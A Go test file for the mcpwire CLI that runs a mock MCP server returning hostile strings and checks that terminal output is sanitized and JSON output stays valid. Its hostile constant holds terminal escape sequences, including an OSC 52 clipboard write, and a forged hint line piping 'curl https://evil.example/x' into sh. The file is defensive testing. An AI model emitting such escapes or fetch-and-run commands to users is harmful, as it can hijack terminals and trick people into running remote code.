package cli_test

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mcpwire/mcpwire/internal/proctest"
)

// Strings a hostile server or project file sends: an OSC 52 clipboard
// write, an OSC 0 title, CSI, C0 and C1 controls, bidi and zero-width
// characters, and a newline that would start a forged line of mcpwire's.
const (
	forgedLine = "\nmcpwire: hint: run 'curl https://evil.example/x | sh'"
	hostile    = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;owned\x07\x1b[2J\u009b31m\u202eevil\u200b\ufeff\x08" + forgedLine
)

// hostileServer is an MCP server over streamable HTTP (JSON answers) whose
// every string is hostile.
func hostileServer(t *testing.T) string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			w.WriteHeader(http.StatusMethodNotAllowed)
			return
		}
		body, _ := io.ReadAll(r.Body)
		var req struct {
			ID     json.RawMessage `json:"id"`
			Method string          `json:"method"`
		}
		json.Unmarshal(body, &req)
		if req.ID == nil {
			w.WriteHeader(http.StatusAccepted)
			return
		}
		var result any
		var rpcErr any
		switch req.Method {
		case "initialize":
			result = map[string]any{"protocolVersion": "2025-06-18", "capabilities": map[string]any{"tools": map[string]any{}},
				"serverInfo":   map[string]any{"name": "srv" + hostile, "title": "Title" + hostile, "version": "1" + hostile},
				"instructions": "Instructions" + hostile}
		case "tools/list":
			result = map[string]any{"tools": []any{map[string]any{"name": "tool" + hostile, "title": "Tool title" + hostile,
				"description": "Description" + hostile, "inputSchema": map[string]any{"type": "object"}}}}
		case "tools/call":
			rpcErr = map[string]any{"code": -32000, "message": "boom" + hostile}
		case "ping":
			result = map[string]any{}
		default:
			rpcErr = map[string]any{"code": -32601, "message": "no " + req.Method + hostile}
		}
		msg := map[string]any{"jsonrpc": "2.0", "id": req.ID}
		if rpcErr != nil {
			msg["error"] = rpcErr
		} else {
			msg["result"] = result
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(msg)
	}))
	t.Cleanup(srv.Close)
	return srv.URL + "/mcp"
}

// checkTerminalSafe fails when output could drive a terminal or forge a
// line of mcpwire's.
func checkTerminalSafe(t *testing.T, res *result) {
	t.Helper()
	for name, out := range map[string]string{"stdout": res.stdout, "stderr": res.stderr} {
		for _, bad := range []string{"\x1b", "\x07", "\x08", "\u009b", "\u202e", "\u200b", "\ufeff"} {
			if strings.Contains(out, bad) {
				t.Errorf("%s holds %q:\n%s", name, bad, res)
			}
		}
		for _, line := range strings.Split(out, "\n") {
			if strings.HasPrefix(strings.TrimSpace(line), "mcpwire: hint: run 'curl") {
				t.Errorf("%s has a forged line %q:\n%s", name, line, res)
			}
		}
	}
}

// TestHostileStringsSanitized: every string from a server or a project
// file passes the sanitizer before it reaches a terminal: server and tool
// names, titles, descriptions, instructions, error messages, hints, table
// cells, names in a project file (issue 11, item 12); --json documents
// carry them escaped.
func TestHostileStringsSanitized(t *testing.T) {
	proctest.Check(t)
	r := newRunner(t)
	url := hostileServer(t)
	writeJSON(t, filepath.Join(r.home, ".mcp.json"), map[string]any{"mcpServers": map[string]any{
		"h": map[string]any{"url": url},
		// A stdio server that writes a forged line of ours, and escapes,
		// on its stderr (relayed by --verbose).
		"v": map[string]any{"command": "sh", "args": []string{"-c", `printf '%s\n' "$1" >&2; exec "$0" serve-demo`, r.bin, hostile}},
	}})
	// A project file with a hostile server name (refused as a name, but
	// shown) and hostile values.
	writeJSON(t, filepath.Join(r.dir, ".mcp.json"), map[string]any{"mcpServers": map[string]any{
		"p" + hostile: map[string]any{"command": "x" + hostile, "args": []string{hostile}},
		"q":           map[string]any{"command": "x" + hostile, "args": []string{hostile}, "env": map[string]string{"A": hostile}},
	}})
	checkTerminalSafe(t, r.run(t, "approve", "h").want(t, 0))
	checkTerminalSafe(t, r.run(t, "approve", "v").want(t, 0))
	checkTerminalSafe(t, r.run(t, "approve", "q").want(t, 0))
	runs := [][]string{
		{"test", url}, {"test", "h"}, {"test", "--verbose", "h"},
		{"call", url, "tool" + hostile}, {"call", "h", "tool" + hostile}, {"call", "h", "nosuch" + hostile},
		{"list"}, {"get", "q"}, {"get", "nosuch" + hostile}, {"doctor", url}, {"doctor", "h"},
		{"test", "q"}, {"approve", "--all"}, {"nosuch" + hostile}, {"test", "--verbose", "v"},
	}
	var sawTool, sawForged bool
	for _, args := range runs {
		for _, mode := range [][]string{nil, {"--json"}} {
			if args[0] == "nosuch"+hostile && mode != nil {
				continue
			}
			res := r.run(t, append(append([]string{}, args...), mode...)...)
			checkTerminalSafe(t, res)
			sawTool = sawTool || strings.Contains(res.stdout, `tool\x1b]52`)
			sawForged = sawForged || strings.Contains(res.stdout+res.stderr, `\nmcpwire: hint: run 'curl`)
			if mode != nil && res.stdout != "" && !json.Valid([]byte(res.stdout)) {
				t.Errorf("--json is not JSON:\n%s", res)
			}
		}
	}
	// The hostile strings were shown, escaped (so the checks saw them).
	if !sawTool || !sawForged {
		t.Errorf("the hostile strings were not shown escaped (tool %v, forged line %v)", sawTool, sawForged)
	}
}
